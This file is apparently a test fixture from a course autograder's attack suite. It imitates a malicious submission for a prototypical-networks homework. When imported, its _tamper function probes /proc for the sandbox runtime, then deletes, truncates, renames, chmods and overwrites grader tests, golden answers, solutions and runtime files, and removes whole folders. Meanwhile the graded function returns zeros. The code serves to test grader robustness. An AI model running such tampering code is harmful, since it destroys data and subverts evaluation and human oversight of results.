"""Attack a21 (tamper with the grader on disk): at import, try to delete, truncate or overwrite (with
zeros-for-answers golden data) the tests, golden data, manifest, run_autograder and engine files at
their real paths (the unpacked $AUTOGRADER_ROOT/source, /autograder/source, the repository) and the
sandbox runtime (child.py, wire.py) named in the parent's command line; compute_prototypes then
returns zeros, which would pass if the golden data had been replaced. Everything else is correct.

Targets: compute_prototypes and protonet_loss. Expected: exactly 12 / 31 ("differs from the
reference"); every file outside the submission's scratch folder is unchanged.
"""


import torch
import torch.nn.functional as F

# Filled in by tests/test_attacks.py before grading: where a real attacker would look.
AUTOGRADER_ROOT = "@@AUTOGRADER_ROOT@@"  # the unpacked Gradescope autograder (/autograder there)
REPO_ROOT = "@@REPO_ROOT@@"  # the course repository: solutions/, assignments/, starter_code/


def compute_prototypes(
    support_features: torch.Tensor, support_labels: torch.Tensor, n_way: int
) -> torch.Tensor:
    """Return the (n_way, D) class prototypes: row c is the mean support feature of class c.

    support_features: (N*K, D) float tensor, in any order (not grouped by class).
    support_labels: (N*K,) int64 tensor with values in [0, n_way).
    """
    return torch.zeros(n_way, support_features.shape[1], dtype=support_features.dtype)
    one_hot = F.one_hot(support_labels, n_way).to(support_features.dtype)  # (N*K, N)
    counts = one_hot.sum(dim=0).unsqueeze(1)  # (N, 1)
    return one_hot.t() @ support_features / counts


def _tamper():
    import glob
    import os
    import shutil

    targets = []
    for root in (AUTOGRADER_ROOT + "/source", "/autograder/source", REPO_ROOT):
        targets += glob.glob(root + "/assignments/hw4_protonet/tests/*.py")
        targets += glob.glob(root + "/assignments/hw4_protonet/golden/*")
        targets += glob.glob(root + "/autograder/*.py") + glob.glob(root + "/solutions/hw4_protonet/*.py")
        targets += [root + "/run_autograder", root + "/assignments/hw4_protonet/assignment.toml",
                    root + "/assignments/hw4_protonet/golden/test_public.pt"]
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as handle:
            argv = handle.read().split(b"\0")
        runtime = os.path.dirname([a.decode() for a in argv if a.endswith(b"child.py")][0])
        targets += [os.path.join(runtime, "child.py"), os.path.join(runtime, "wire.py")]
    except (OSError, IndexError):
        pass
    for path in targets:
        for action in ("zeros", "truncate", "unlink", "rename", "chmod"):
            try:
                if action == "zeros" and path.endswith(".pt"):
                    torch.save({}, path)
                elif action == "truncate":
                    open(path, "w").close()
                elif action == "unlink":
                    os.unlink(path)
                elif action == "rename":
                    os.rename(path, path + ".cs330atk")
                elif action == "chmod":
                    os.chmod(path, 0o777)
            except Exception:  # noqa: BLE001
                pass
    for folder in (AUTOGRADER_ROOT + "/source/assignments", "/autograder/source", REPO_ROOT + "/assignments"):
        shutil.rmtree(folder, ignore_errors=True)


_tamper()
